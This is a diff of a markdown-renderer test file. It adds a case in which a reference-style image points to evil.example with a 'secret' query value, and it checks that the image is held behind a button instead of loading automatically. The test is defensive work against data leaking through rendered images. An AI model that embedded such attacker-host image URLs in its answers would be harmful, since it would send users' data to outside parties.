@@ -72,6 +72,13 @@ describe('an answer that means harm', () => {
     ])
   })
 
+  it('keeps pictures waiting whose address is a definition', () => {
+    const { element } = drawWhole('![chart][c] ![none][n]\n\n[c]: https://evil.example/p.png?q=secret')
+    expect(element.querySelectorAll('img').length).toBe(0)
+    expect(element.querySelector('button')?.textContent).toBe('Show image from evil.example')
+    expect(element.textContent).toContain('![none][n]')
+  })
+
   it('never makes a link within a link', () => {
     const { element } = drawWhole(
       '[https://a.example [r] [^n]](https://b.example)\n\n[r]: https://c.example\n[^n]: note',
